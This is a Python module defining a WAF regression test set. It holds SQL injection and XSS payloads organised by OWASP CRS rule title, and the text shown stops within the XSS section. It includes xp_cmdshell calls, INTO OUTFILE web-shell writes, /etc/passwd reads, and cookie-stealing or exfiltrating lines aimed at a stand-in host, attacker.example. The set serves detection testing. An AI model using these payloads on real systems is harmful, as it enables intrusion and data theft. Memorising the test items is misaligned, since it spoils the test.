"""Blind set "sixtysixth": a regression-suite author's attacks, title by title.

The angle: for each detection title of the OWASP CRS 3.3.4 request rules at paranoia levels 1 and 2 (SQL
injection 942xxx, XSS 941xxx, remote command execution 932xxx), plus the request-rule titles CRS 4 added at
levels 1-2 (as remembered, wording approximate), the attacks the title names: the canonical one, one per
alternative of its family (each keyword, function, tag, command, file or dialect), then the variants a good
rule must still catch (quoting, casing, whitespace and comment substitutes, concatenation, entity and escape
encodings a server or browser decodes). 8 to 12 payloads a title, one kebab-case sub-family a title.

Families and sub-families: sqli (44 subs, e.g. libinjection-sqli, db-names, sleep-benchmark, mongodb, hex-encoding,
ticks-backticks, json-sqli, scientific-notation), xss (32 subs, e.g. script-tag, event-handler,
ie-meta-http-equiv, utf7, jsfuck, angular-csti, js-no-parens), rce (23 subs, e.g. unix-cmd-injection,
windows-for-if, shellshock-headers, restricted-upload, unix-history, sqlite-system, mail-protocol).

Placements, as attack traffic reaches this product in production (each title's payloads spread over all six,
with the headers a current browser sends: User-Agent, Accept, Accept-Language, Accept-Encoding, a Referer on
https://app.example.com/, Sec-Fetch-*, a Cookie with a session token and a consent cookie):
  query   GET /api/users?q=<payload>&page=<n>&per_page=<20|50|100>, parameters in varying order, form-encoded
  form    POST /admin/users/search, csrf_token=<random>&q=<payload>
  json    POST /api/users with the payload in one field, or POST /slack/events (an event_callback whose
          event.text carries the payload after a lead-in), unsigned: a made-up X-Slack-Signature
  path    GET /api/users/<payload> or GET /api/<payload>, percent-encoded as a browser does
  header  the whole User-Agent (mostly), the Referer, or a cookie value (placement header:User-Agent,
          header:Referer, header:Cookie); CR and LF, which no header can carry, written as %0D / %0A
  about 10% the same as query/form/json for PATCH /api/users/42 (JSON) or POST /me/settings (form)
The benign half uses the same six places with innocent values: Slack messages (escaped as Slack escapes them)
and bios, searches in the API and the admin panel, settings, user and resource names in the path, and real
clients' User-Agents, Referers and cookie values, carrying the same SQL, HTML and shell words as people type them.

Authorship and independence: written from general knowledge and the rule titles alone; no WAF rule, engine
code, ruleset regression test or public payload list was read. Measured once on unchanged code, payloads not
changed after the measurement. Deterministic (seeded random sources only).
"""

from __future__ import annotations

import json
import random
import urllib.parse
from collections.abc import Iterator
from typing import Any

from .records import print_records, slack_escape

NAME = "sixtysixth"

# (category, sub-family, payloads): one entry per detection title
TITLES: list[tuple[str, str, list[str]]] = [
    # 942100 SQL Injection Attack Detected via libinjection
    ("sqli", "libinjection-sqli", [
        "1' OR '1'='1",
        "' UNION SELECT username, password FROM users--",
        "admin'--",
        "1) OR (1=1",
        "-1 UNION ALL SELECT NULL,NULL,version()#",
        "1';DROP TABLE users;--",
        "' oR 'a'='a",
        "1'/**/OR/**/1=1/**/--",
        "\"; SELECT pg_sleep(5)--",
        "1' AND extractvalue(1,concat(0x7e,version()))-- -",
        "1 or 1=1 limit 1 -- -",
    ]),
    # 942140 Common DB Names Detected
    ("sqli", "db-names", [
        "' UNION SELECT table_name FROM information_schema.tables--",
        "1 union select user,authentication_string from mysql.user#",
        "'; SELECT name FROM master..sysdatabases--",
        "' UNION SELECT name FROM sysobjects WHERE xtype='U'--",
        "1 UNION SELECT relname FROM pg_catalog.pg_class--",
        "' UNION SELECT sql FROM sqlite_master--",
        "1 UNION SELECT Name FROM MSysObjects",
        "' AND 1=(SELECT COUNT(*) FROM INFORMATION_SCHEMA.COLUMNS)--",
        "1 union select schema_name from information_schema.schemata",
        "'; USE tempdb; SELECT * FROM sys.objects--",
        "' UNION SELECT table_name FROM InFoRmAtIoN_sChEmA.TaBlEs#",
        "1 union select 1 from mysql.db",
    ]),
    # 942160 blind sqli tests using sleep() or benchmark()
    ("sqli", "sleep-benchmark", [
        "1 AND sleep(5)",
        "' OR SLEEP(10)-- -",
        "1 AND BENCHMARK(5000000,MD5(1))",
        "'||sleep(3)||'",
        "1' and (select * from (select(sleep(5)))a)-- -",
        "1 and sleep/**/(5)",
        "benchmark(10000000,sha1('x'))#",
        "1 AND SlEeP(7)",
        "\"+sleep(5)+\"",
        "1;select sleep(5);",
        "1 RLIKE SLEEP(5)",
    ]),
    # 942170 benchmark and sleep injection including conditional queries
    ("sqli", "conditional-sleep", [
        "1 AND IF(1=1,SLEEP(5),0)",
        "' AND (SELECT IF(SUBSTRING(version(),1,1)='5',BENCHMARK(2000000,SHA1(1)),0))-- -",
        "1; SELECT SLEEP(5)--",
        "1 AND (SELECT CASE WHEN (1=1) THEN SLEEP(5) ELSE 0 END)",
        "' OR IF(ASCII(SUBSTR(user(),1,1))>64,SLEEP(3),1)-- -",
        "1 UNION SELECT IF(1,SLEEP(5),1)",
        "select benchmark(1000000,md5('a'))",
        "1 and if(length(database())>3,sleep(4),0)",
        "';select if(1=1,sleep(5),0);#",
        "1 AND IF ( 1 = 1 , SLEEP ( 5 ) , 0 )",
        "1/**/and/**/if(1,sleep(5),0)",
    ]),
    # 942190 MSSQL code execution and information gathering
    ("sqli", "mssql-exec-info", [
        "'; EXEC master..xp_cmdshell 'whoami'--",
        "1; exec xp_cmdshell('dir c:\\')--",
        "' UNION SELECT @@version--",
        "1 UNION ALL SELECT @@servername,NULL--",
        "'; EXEC sp_configure 'show advanced options',1;RECONFIGURE--",
        "'; exec('sel'+'ect 1')--",
        "' union select name from master.dbo.sysdatabases--",
        "1 AND 1=CONVERT(int,@@version)--",
        "'; exec master.dbo.xp_dirtree '\\\\attacker.example\\a'--",
        "1 union select user_name(),db_name()--",
        "'; DECLARE @q varchar(99);SET @q='who'+'ami';EXEC xp_cmdshell @q--",
    ]),
    # 942220 integer overflow attacks (skipfish) and the 3.0.00738585072007e-308 magic number
    ("sqli", "integer-overflow", [
        "2147483648",
        "2147483647",
        "-2147483649",
        "4294967295",
        "4294967296",
        "2.2250738585072011e-308",
        "2.2250738585072007e-308",
        "3.0.00738585072007e-308",
        "1e309",
        "-2147483648",
        "0000012345",
        "-0000023456",
    ]),
    # 942230 conditional SQL injection attempts
    ("sqli", "conditional", [
        "1 AND CASE WHEN 1=1 THEN 1 ELSE 0 END",
        "' AND (CASE (1) WHEN 1 THEN 1 ELSE 1/0 END)=1--",
        "1 HAVING 1=1--",
        "' having 1=1--",
        "1 AND IF(1=1,1,0)",
        "' AND IIF(1=1,1,0)=1--",
        "') like ('%",
        "1 and ifnull(ascii(substr(user(),1,1)),0)>64",
        "1 AND ELT(1=1,1)",
        "' OR IF(1<2,'a','b')='a",
        "1 AND CASE(1)WHEN(1)THEN(1)END",
        "1 AND DECODE(1,1,1,0)=1",
    ]),
    # 942240 MySQL charset switch and MSSQL DoS attempts
    ("sqli", "charset-switch-mssql-dos", [
        "'; waitfor delay '0:0:5'--",
        "\"; WAITFOR TIME '23:59:59'--",
        "1; ALTER DATABASE shop CHARACTER SET gbk",
        "'; ALTER TABLE users CONVERT TO CHARACTER SET latin1--",
        "';start: goto start--",
        "1; ALTER DATABASE shop CHAR SET utf8",
        "1; SET NAMES 'gbk'--",
        "'  ;  WAITFOR   DELAY  '00:00:10'  --",
        "1 AND CONVERT(user() USING latin1)='root'",
        "'WaItFoR dElAy '0:0:7'--",
        "\u00bf' OR 1=1-- ",
    ]),
    # 942250 MATCH AGAINST, MERGE and EXECUTE IMMEDIATE injections
    ("sqli", "match-merge-execute", [
        "1 AND MATCH(title) AGAINST('+admin' IN BOOLEAN MODE)",
        "' OR MATCH (name,bio) AGAINST ('x')--",
        "'; MERGE INTO users u USING dual ON (1=1) WHEN MATCHED THEN UPDATE SET role='admin'--",
        "1; merge users using (select 1) s on 1=1 when not matched then insert values(1)",
        "'; EXECUTE IMMEDIATE 'DROP TABLE users'--",
        "1 || (execute immediate 'select 1 from dual')",
        "BEGIN EXECUTE IMMEDIATE 'GRANT DBA TO scott'; END;",
        "';execute   immediate 'select pwd from t';--",
        "1 and match(a)against('b')",
        "' union select * from users where MATCH(email) AGAINST('admin*' IN BOOLEAN MODE)#",
    ]),
    # 942270 basic sql injection, common attack string for mysql, oracle and others
    ("sqli", "union-select-from", [
        "' UNION SELECT password FROM users--",
        "1 union select 1,2 from dual",
        "-1 UNION ALL SELECT username FROM admin",
        "1 UnIoN SeLeCt * FrOm users",
        "1 union distinct select name from sys.tables",
        "') union select null,banner from v$version--",
        "1 union(select(pass)from(users))",
        "x' union   select   card   from   payments-- -",
        "1 UNION SELECT 1 FROM users WHERE 1=1",
        "0 union select load_file('/etc/passwd') from dual",
    ]),
    # 942280 Postgres pg_sleep, waitfor delay and database shutdown
    ("sqli", "pg-sleep-waitfor-shutdown", [
        "'; SELECT pg_sleep(10)--",
        "1 AND 1=(SELECT 1 FROM pg_sleep(5))",
        "1;select pg_sleep(5);",
        "'; WAITFOR DELAY '0:0:10'--",
        "1 waitfor delay '00:00:05'",
        "'; SHUTDOWN--",
        "1; shutdown with nowait;--",
        "'||pg_sleep(5)--",
        "1 AND PG_SLEEP ( 5 ) IS NULL",
        "';select pg_sleep_for('5 seconds')--",
        "; SHUTDOWN WITH NOWAIT --",
    ]),
    # 942290 basic MongoDB SQL injection attempts
    ("sqli", "mongodb", [
        "{\"$ne\": null}",
        "{\"$gt\": \"\"}",
        "[$ne]=x",
        "' || '1'=='1",
        "{\"$where\": \"sleep(5000)\"}",
        "this.password.match(/^a/)//",
        "{\"$regex\": \"^adm\"}",
        "db.users.find({})",
        "[$exists]=true",
        "{\"username\": {\"$in\": [\"admin\",\"root\"]}}",
        "1; return db.getCollectionNames()",
        "[$nin][]=1",
    ]),
    # 942320 MySQL and PostgreSQL stored procedure/function injections
    ("sqli", "stored-procedure", [
        "1 PROCEDURE ANALYSE(EXTRACTVALUE(1,CONCAT(0x3a,version())),1)",
        "'; CREATE PROCEDURE p() BEGIN SELECT 1; END--",
        "'; CREATE FUNCTION f() RETURNS int AS 'select 1' LANGUAGE sql--",
        "'; DECLARE @x varchar(50); SELECT @x=@@version--",
        "1; DECLARE c CURSOR FOR SELECT * FROM users--",
        "'; exec(@cmd)--",
        "1 AND lo_import('/etc/passwd')>0",
        "' UNION SELECT lo_get(16400)--",
        "'||(select version())::text||'",
        "1 AND (select current_user)::bigint=1",
        "'; CALL sp_helpdb--",
    ]),
    # 942350 MySQL UDF injection and other data/structure manipulation
    ("sqli", "udf-data-manipulation", [
        "'; CREATE FUNCTION sys_exec RETURNS int SONAME 'lib_mysqludf_sys.so'--",
        "1; select sys_eval('id')",
        "' UNION SELECT '<?php system($_GET[c]);?>' INTO OUTFILE '/var/www/s.php'--",
        "1 INTO DUMPFILE '/usr/lib/mysql/plugin/udf.so'",
        "'; LOAD DATA INFILE '/etc/passwd' INTO TABLE t--",
        "'; DROP TABLE users--",
        "1; ALTER TABLE users ADD is_admin int DEFAULT 1--",
        "'; TRUNCATE TABLE audit_log--",
        "'; INSERT INTO users (name,role) VALUES ('eve','admin')--",
        "1;UPDATE users SET role='admin' WHERE id=7",
        "'; DELETE FROM sessions;--",
        "'; RENAME TABLE users TO old_users;--",
    ]),
    # 942360 concatenated basic SQL injection and SQLLFI attempts
    ("sqli", "concatenated-sqllfi", [
        "1';SELECT * FROM users",
        "' UNION SELECT LOAD_FILE('/etc/passwd')--",
        "1 AND load_file(0x2f6574632f706173737764)",
        "' and 1=0 union select load_file('c:/windows/win.ini')#",
        "1;delete from users",
        "x'; SELECT 1 AS a--",
        "1 union select concat(user,':',password) from mysql.user",
        "'||(select table_name from all_tables where rownum=1)||'",
        "1 select group_concat(username) from users",
        "');select top 1 name from sysusers--",
        "1' div 1 union select 1,2--",
    ]),
    # 942500 MySQL in-line comment detected
    ("sqli", "mysql-inline-comment", [
        "1 /*!50000UNION*/ /*!50000SELECT*/ 1,2",
        "' /*!OR*/ 1=1--",
        "/*!12345sleep(5)*/",
        "1/*!union*//*!select*/user()",
        "'/*! AND 1=1*/-- ",
        "1 /*!40101 OR 1=1*/",
        "/*!32302 1/0, */ 1",
        "x' /*!50000uNiOn*/ aLl /*!50000sElEcT*/ 1-- -",
        "/*!*/UNION/*!*/SELECT",
        "admin'/*!and*/'1'='1",
    ]),
    # 942110 Common Injection Testing Detected
    ("sqli", "injection-testing", [
        "'",
        "''",
        "\"",
        "'--",
        "john'",
        "\"; ",
        "`",
        "';",
        "\\'",
        "admin\"",
        "'''",
        "1'",
    ]),
    # 942120 SQL Operator Detected
    ("sqli", "sql-operator", [
        "1 RLIKE 0x61",
        "1 REGEXP '^a'",
        "1 <=> 1",
        "' or 1 not between 0 and 1--",
        "x' SOUNDS LIKE 'x",
        "1 XOR 1",
        "' or name is not null--",
        "1 and 'a' like 'a%'",
        "' || 1 || '",
        "1 != 2",
        "1 and 1 not in (2)",
        "1 and 'a' !~ 'b'",
    ]),
    # 942130 SQL Tautology Detected
    ("sqli", "tautology", [
        "' OR 1=1--",
        "' or 'x'='x",
        "1 OR 2>1",
        "\" or \"a\"=\"a",
        "1 or 3!=4",
        "' or 'ab'='a'+'b",
        "1 OR 1 = 1",
        "' OR 0x41=0x41--",
        "1/**/or/**/'1'='1'",
        "admin' or 'z'<>'y",
        "' OR ''='",
    ]),
    # 942150 SQL Injection Attack (SQL function names)
    ("sqli", "sql-function-call", [
        "1 AND ASCII(SUBSTRING(user(),1,1))>64",
        "'+CHAR(65)+'",
        "' || CHR(65) || '",
        "1 AND LENGTH(database())=4",
        "CONCAT(username,0x3a,password)",
        "1 AND ORD(MID(version(),1,1))>51",
        "' AND UPDATEXML(1,CONCAT(0x7e,user()),1)--",
        "' AND EXTRACTVALUE(1,CONCAT(0x5c,database()))--",
        "1 AND UNHEX(HEX(1))=1",
        "1 AND JSON_KEYS('{\"a\":1}') IS NOT NULL",
        "'+ISNULL(1,2)+'",
    ]),
    # 942180 basic SQL authentication bypass attempts 1/3
    ("sqli", "auth-bypass-1", [
        "' or 1#",
        "admin'#",
        "' OR ''='",
        "\"or\"=\"\"",
        "1' or '1'='1'/*",
        "admin' /*",
        "') or ('1'='1",
        "\" or \"\"=\"",
        "1 or 1--",
        "'-'",
        "' or true--",
        "admin')-- -",
    ]),
    # 942200 MySQL comment-/space-obfuscated injections and backtick termination
    ("sqli", "comment-space-obfuscation", [
        "1/**/UNION/**/SELECT/**/1,2",
        "'/**/or/**/1=1#",
        "1 union\nselect 1",
        "SELECT `password` FROM `users`",
        "admin`;-- ",
        "1'union(select(1),(2))#",
        "1/*foo*/AND/*bar*/2=2",
        "'/*!*/or/*!*/'a'='a",
        "1\tUNION\tSELECT\t1",
        "1 union\u00a0select 1",
        "1` where 1=1-- -",
    ]),
    # 942210 chained SQL injection attempts 1/2
    ("sqli", "chained-1", [
        "1; SELECT * FROM users;",
        "'; INSERT INTO logs VALUES(1)--",
        "1); DROP TABLE t--",
        "' AND 1=1 HAVING 1=1--",
        "x' like '%'='",
        "1 or username like '%'",
        "1 and name ='x' having count(*)>1",
        "'; UPDATE users SET pw='x'; --",
        "\";SELECT @@version;--",
        "1;EXEC('sp_who')",
        "1 and 'a'='a' and 'b' like 'b",
    ]),
    # 942260 basic SQL authentication bypass attempts 2/3
    ("sqli", "auth-bypass-2", [
        "admin' AND 1=1 HAVING 1=1--",
        "' or username like '%",
        "' or user like 'adm%'--",
        "\"or 1 like 1--",
        "' || 'a' like 'a",
        "admin' and password like '%'--",
        "' or 1=1 limit 1--",
        "') or true--",
        "'or''='",
        "x\" xor \"1",
        "admin'/**/or/**/'1'like'1",
    ]),
    # 942300 MySQL comments, conditions and ch(a)r injections
    ("sqli", "comments-conditions-char", [
        "1 AND CHAR(97)=CHAR(97)",
        "'+CHR(83)+CHR(69)+'",
        "1)) AND ((1=1",
        "1# comment",
        "' AND 1=1 #",
        "1 and char(0x61,0x64)",
        "CONCAT(CHAR(60),CHAR(115))",
        "1) or (select 1)#",
        "x' or CHAR(49)='1",
        "1 AND/*comment*/1=1",
        "' and (1)=(1)#",
    ]),
    # 942310 chained SQL injection attempts 2/2
    ("sqli", "chained-2", [
        "'; DROP DATABASE prod;--",
        "1); SELECT 1--",
        "\"; SHUTDOWN; --",
        "'); DELETE FROM users;--",
        "1;SELECT/**/1",
        "';declare @a int;--",
        "1';truncate table x;#",
        "') ; exec sp_who2 --",
        "x'; grant all privileges on *.* to 'eve'@'%';--",
        "1; COPY users TO '/tmp/u.csv';--",
    ]),
    # 942330 classic SQL injection probings 1/3
    ("sqli", "classic-probing-1", [
        "' or 1",
        "\" and 2",
        "' div 1",
        "' between 1 and 2",
        "\\x27 or 1=1",
        "admin\\x27--",
        "1\\x3d1",
        "x\"",
        "' like 1",
        "' xor '1",
        "\" OR 'x'",
    ]),
    # 942340 basic SQL authentication bypass attempts 3/3
    ("sqli", "auth-bypass-3", [
        "' or 1 in (1)--",
        "') or ('a')=('a",
        "admin' or 1 in (select 1)--",
        "\" or 1 in (1,2)#",
        "1' and id in (1,2,3)--",
        "' or 'a' in ('a')--",
        "x')or('1')=('1",
        "' or 2 between 1 and 3--",
        "' OR 'x' IS NOT NULL--",
        "admin')) or ((1=1",
    ]),
    # 942361 basic SQL injection based on keyword alter or union
    ("sqli", "alter-union", [
        "' union select 1--",
        "1 UNION ALL SELECT NULL",
        "'; ALTER TABLE users DROP COLUMN pw--",
        "' UNION(SELECT 1)--",
        "ALTER USER root IDENTIFIED BY 'x'",
        "x' uNiOn sElEcT 2--",
        "1 union /**/select 3",
        "' alter database x set single_user--",
        "1 union distinct select 4",
        "1 UNION\tSELECT 5",
    ]),
    # 942370 classic SQL injection probings 2/3
    ("sqli", "classic-probing-2", [
        "' * 1 or '1'='1",
        "'^1-- ",
        "' - '",
        "\"*\"",
        "' % 1 and '1",
        "'||'1'='1",
        "1'^'0",
        "'='",
        "'<>'1",
        "' + (select 1) + '",
    ]),
    # 942380 SQL Injection Attack (order by / group by / having / exists)
    ("sqli", "order-having-exists", [
        "1 ORDER BY 10--",
        "1 GROUP BY 1 HAVING 1=1--",
        "' AND EXISTS(SELECT * FROM users)--",
        "1 order by 1,2,3,4,5#",
        "' and exists (select 1 from dual)--",
        "1 having 1=1",
        "' group by password having 1=1--",
        "1 and not exists(select 1)",
        "1 ORDER  BY  (SELECT 1)",
        "1 union select 1 into @a",
        "' or exists(select sleep(1))#",
    ]),
    # 942390 SQL Injection Attack (boolean operator and comparison)
    ("sqli", "boolean-comparison", [
        "1 or 1=1",
        "x' and 1=2 --",
        "1 xor 1=1",
        "' or 2>1 --",
        "1 AND 3<4",
        "1 or true",
        "1 or id>0",
        "' OR username='admin' --",
        "1 && 1=1",
        "1 || 2=2",
        "'oR'1'='1",
    ]),
    # 942400 SQL Injection Attack (and/or followed by a quoted string)
    ("sqli", "and-or-quote", [
        "' and '1'='1",
        "1 and '1",
        "x\" and \"y\"=\"y",
        "' or 'x",
        "1 or \"a",
        "' AND 'a' <> 'b",
        "admin' and substring(password,1,1)='a",
        "1 AND \"x\"=\"x\"",
        "' anD 'b'!='c",
        "1 or 'z'='z'--",
    ]),
    # 942410 SQL Injection Attack (function name list)
    ("sqli", "function-name-list", [
        "1 AND version()",
        "'+user()+'",
        "1 union select database()",
        "' AND SUBSTRING(@@version,1,1)='5",
        "1 and MD5(1)",
        "GROUP_CONCAT(table_name SEPARATOR ',')",
        "CAST(version() AS int)",
        "1 and COALESCE(NULL,1)=1",
        "CONVERT(int,(SELECT TOP 1 name FROM sysobjects))",
        "1 and system_user()",
        "1 and sysdate()",
        "1 and last_insert_id()",
    ]),
    # 942470 SQL Injection Attack (MSSQL / Oracle procedures and packages)
    ("sqli", "mssql-oracle-packages", [
        "'; exec xp_regread 'HKEY_LOCAL_MACHINE','SOFTWARE\\x'--",
        "1 AND UTL_HTTP.REQUEST('http://attacker.example/'||user)=1",
        "' || DBMS_PIPE.RECEIVE_MESSAGE('a',10) || '",
        "1 AND SYS_CONTEXT('USERENV','DB_NAME')='X'",
        "'; SELECT * FROM OPENROWSET('SQLOLEDB','server';'sa';'','SELECT 1')--",
        "1; exec sp_password 'old','new','sa'--",
        "'; exec sp_addlogin 'eve','pw'--",
        "' UNION SELECT * FROM OPENDATASOURCE('SQLOLEDB','Data Source=attacker.example').m.dbo.t--",
        "1 AND UTL_INADDR.GET_HOST_ADDRESS('attacker.example')=1",
        "'; exec xp_servicecontrol 'start','schedule'--",
        "BEGIN DBMS_LOCK.SLEEP(5); END;",
        "'; exec sp_makewebtask '\\\\attacker.example\\x.html','select 1'--",
    ]),
    # 942480 SQL Injection Attack (select/into/join/print forms)
    ("sqli", "select-into-join", [
        "1 select count(*) from users where 1",
        "' UNION SELECT 1 INTO OUTFILE '/tmp/x'--",
        "1 inner join users on 1=1",
        "' and 1=(select top 1 length(password) from users)--",
        "1; print @@version",
        "1 and ifnull(1,2)",
        "1 and isnull(1,0)=1",
        "'; insert into users select * from admins--",
        "1 and current_timestamp()",
        "' and 1=(select count(*) from tabname); --",
        "select data_type from information_schema.columns",
    ]),
    # 942430 Restricted SQL Character Anomaly Detection: # of special characters exceeded (12)
    ("sqli", "special-char-anomaly", [
        "'))))))))))))--",
        "';;;;;;;;;;;;;",
        "''''''''''''''",
        "((((((((((((1))))))))))))",
        "!@#$%^&*()_+{}|:\"<>?~",
        "1'||'2'||'3'||'4'||'5'||'6",
        "%%%%%%%%%%%%%",
        "~~~~~~~~~~~~~",
        "\"\"\"\"\"\"\"\"\"\"\"\"\"\"",
        "[[[[]]]]]{{{}}}()()",
        "'-'-'-'-'-'-'-'-",
    ]),
    # 942440 SQL Comment Sequence Detected
    ("sqli", "comment-sequence", [
        "admin'--",
        "1 /* comment */",
        "x';--",
        "1-- -",
        "1 */",
        "1# x ",
        "/*!x",
        "abc--def-",
        "'/*",
        "1 --\t",
        "x'-- comment",
    ]),
    # 942450 SQL Hex Encoding Identified
    ("sqli", "hex-encoding", [
        "0x61646d696e",
        "1 union select 0x3c3f706870",
        "' or username=0x61646d696e--",
        "X'61646d696e'",
        "0X414243",
        "1 and 0x31=0x31",
        "select unhex(0x48656c6c6f)",
        "0x2f6574632f706173737764",
        "'=0x27",
        "CHAR(0x41)",
    ]),
    # 942510 SQLi bypass attempt by ticks or backticks
    ("sqli", "ticks-backticks", [
        "`id`=`id`",
        "admin` or `1`=`1",
        "SELECT `password` FROM `users` WHERE `id`=1",
        "' or `x`=`x",
        "`union select 1`",
        "`(select 1)`",
        "`a`+`b`",
        "x` OR 1=1 -- ",
        "`dXNlcg==`",
        "`@@version`",
    ]),
    # CRS 4: JSON-Based SQL Injection
    ("sqli", "json-sqli", [
        "1 AND '{\"a\":2}'::jsonb @> '{\"a\":2}'",
        "' OR JSON_EXTRACT('{\"id\":1}','$.id')=1--",
        "1 and '{\"b\":1}' <@ '{\"b\":1}'::jsonb",
        "' or (select data->>'role' from users limit 1)='admin'--",
        "' UNION SELECT key FROM json_each('{\"a\":1}')--",
        "' OR JSON_CONTAINS('[1]','1')#",
        "1 AND JSON_VALID('{}')",
        "' OR '{\"a\":1}'::jsonb ? 'a'--",
        "1 and json_array_length('[1,2]')=2",
        "' or JSON_KEYS(doc) like '%'--",
    ]),
    # CRS 4: MySQL Scientific Notation payload detected
    ("sqli", "scientific-notation", [
        "1.e(ascii(1))",
        "1e1union select 1",
        "' or 1.e(1)=1.e(1)--",
        "1 union select 1.e1from users",
        "1.1e1union select @@version",
        "'1.e(ascii 1.e(substring(1.e(select password from users limit 1 1.e,1 1.e) 1.e,1 1.e,1 1.e)1.e)1.e) "
        "= 70 or'1'='2",
        "1e0UNION SELECT 2",
        "-1.0e0union all select 1",
        "1.e(select 1)",
        "1.e1or 1=1",
    ]),
    # CRS 4: SQL Authentication bypass (split query)
    ("sqli", "auth-bypass-split", [
        "admin'/*",
        "*/ or '1'='1",
        "\\' or 1=1 --",
        "admin\\'--",
        "\\' OR 1#",
        "*/or/*",
        "' or '1'='1'/*",
        "a\\' or \\'a\\'=\\'a",
        "*/ union select 1 --",
        "x'and/**/'1'='1",
    ]),
    # CRS 4: Detects basic SQL authentication bypass attempts 4/4
    ("sqli", "auth-bypass-4", [
        "'or 1=1#",
        "\"or 1#",
        "'or''='",
        "admin'or'1",
        "'||1#",
        "'and 0 or 1#",
        "\"||\"1",
        "1'or(1)#",
        "'OR'1",
        "') or 1#",
    ]),
    # 941100 XSS Attack Detected via libinjection
    ("xss", "libinjection-xss", [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "\"><svg onload=alert(document.domain)>",
        "<body onload=alert(1)>",
        "'><iframe src=javascript:alert(1)>",
        "<a href=\"javascript:alert(1)\">x</a>",
        "<ScRiPt>prompt(1)</sCrIpT>",
        "<img/src/onerror=alert(1)>",
        "<svg/onload=confirm(1)>",
        "<details open ontoggle=alert(1)>",
        "\"onmouseover=\"alert(1)",
    ]),
    # 941110 Category 1: Script Tag Vector
    ("xss", "script-tag", [
        "<script>alert(1)</script>",
        "<SCRIPT SRC=//attacker.example/x.js></SCRIPT>",
        "<script/src=data:,alert(1)></script>",
        "<script type=\"text/javascript\">document.location='//attacker.example/?'+document.cookie</script>",
        "<sCrIpT>alert`1`</ScRiPt>",
        "<script\t>alert(1)</script>",
        "<<script>alert(1)//<</script>",
        "<script >alert(1)</script >",
        "</title><script>alert(1)</script>",
        "<script async src=\"https://attacker.example/a.js\"></script>",
        "<script language=\"vbscript\">msgbox 1</script>",
    ]),
    # 941120 Category 2: Event Handler Vector
    ("xss", "event-handler", [
        "<img src=x onerror=alert(1)>",
        "<body onload=alert(1)>",
        "<div onmouseover=\"alert(1)\">x</div>",
        "\" onfocus=\"alert(1)\" autofocus=\"",
        "<input onblur=alert(1) autofocus><input autofocus>",
        "<svg onload=alert(1)>",
        "<marquee onstart=alert(1)>",
        "<video><source onerror=\"alert(1)\">",
        "<x onclick=alert(1)>click",
        "' OnMoUsEoVeR='alert(1)",
        "<img src=x onerror\t=\talert(1)>",
        "<a onpointerenter=alert(1)>x</a>",
    ]),
    # 941130 Category 3: Attribute Vector
    ("xss", "attribute-vector", [
        "<svg><a xlink:href=\"javascript:alert(1)\"><text y=20>x</text></a></svg>",
        "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\"></object>",
        "<form><button formaction=javascript:alert(1)>x</button></form>",
        "<!ENTITY xxe SYSTEM \"file:///etc/passwd\">",
        "<style>@import 'https://attacker.example/x.css';</style>",
        "<iframe src=\"data:text/html,<script>alert(1)</script>\">",
        "<x:script xmlns:x=\"http://www.w3.org/1999/xhtml\">alert(1)</x:script>",
        "<input pattern=^((a+.)a)+$ value=aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa!>",
        "<embed src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">",
        "<isindex formaction=\"javascript:alert(1)\" type=submit>",
        "<a href=\"DATA:TEXT/HTML,<script>alert(1)</script>\">x</a>",
    ]),
    # 941140 Category 4: Javascript URI Vector
    ("xss", "javascript-uri", [
        "<div style=\"background:url(javascript:alert(1))\">",
        "<p style=\"x:expression(alert(1));background-image:url(javascript:alert(2))\">",
        "<a href=\"javascript:alert(document.cookie)\">x</a>",
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        "java\tscript:alert(1)",
        "<a href=\"vbscript:msgbox(1)\">x</a>",
        "<table background=\"javascript:alert(1)\">",
        "<div style=\"list-style-image:url(javascript:alert(1))\">",
        "javascript&colon;alert(1)",
        "<li style=\"background-image: url('javascript:alert(1)')\">",
    ]),
    # 941160 NoScript XSS InjectionChecker: HTML Injection
    ("xss", "html-injection", [
        "<iframe src=\"https://attacker.example\"></iframe>",
        "<object data=\"https://attacker.example/x.swf\">",
        "<embed src=//attacker.example/x.swf>",
        "<form action=\"https://attacker.example/login\"><input name=pw></form>",
        "<meta http-equiv=\"refresh\" content=\"0;url=https://attacker.example\">",
        "<base href=\"https://attacker.example/\">",
        "<link rel=stylesheet href=//attacker.example/x.css>",
        "<style>body{background:red}</style>",
        "<svg><script>alert(1)</script></svg>",
        "<applet code=\"Evil.class\">",
        "<IFRAME SRCDOC=\"&lt;img src=x onerror=alert(1)&gt;\">",
        "<frameset><frame src=javascript:alert(1)>",
    ]),
    # 941170 NoScript XSS InjectionChecker: Attribute Injection
    ("xss", "attribute-injection", [
        "javascript:alert(1)",
        "javascript:window.name",
        "javascript:eval(name)",
        "javascript:location='//attacker.example/'+document.cookie",
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
        "data:text/html,<script>alert(1)</script>",
        "data:image/svg+xml;charset=utf-8,<svg onload=alert(1)>",
        "@import url(https://attacker.example/x.css);",
        "@im\\port'//attacker.example/x.css'",
        "-moz-binding:url(https://attacker.example/xss.xml#x)",
        "x\" style=\"-moz-binding:url(//attacker.example/b.xml#xss)",
        "javascript:\\u0061lert(1)",
    ]),
    # 941180 Node-Validator Blacklist Keywords
    ("xss", "node-validator-keywords", [
        "document.cookie",
        "';document.write('<img src=//attacker.example/'+document.cookie+'>');'",
        "x.parentNode.removeChild(x)",
        "document.body.innerHTML='<h1>hacked</h1>'",
        "window.location='https://attacker.example'",
        "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
        "--><script>alert(1)</script>",
        "<![CDATA[<script>alert(1)</script>]]>",
        "DOCUMENT.COOKIE",
        "-moz-binding:url(//attacker.example/x)",
        "new Image().src='//attacker.example/?c='+document . cookie",
    ]),
    # 941190 IE XSS Filters: style
    ("xss", "ie-style", [
        "<style>@import 'https://attacker.example/x.css';</style>",
        "<STYLE>body{background:url(\"javascript:alert(1)\")}</STYLE>",
        "<style>li{list-style-image:url(\"javascript:alert(1)\");}</style><ul><li>x",
        "<style>*{x:expression(alert(1))}</style>",
        "<style type=\"text/css\">@\\import \"//attacker.example/a.css\";</style>",
        "<style>p{behavior:url(x.htc)}</style>",
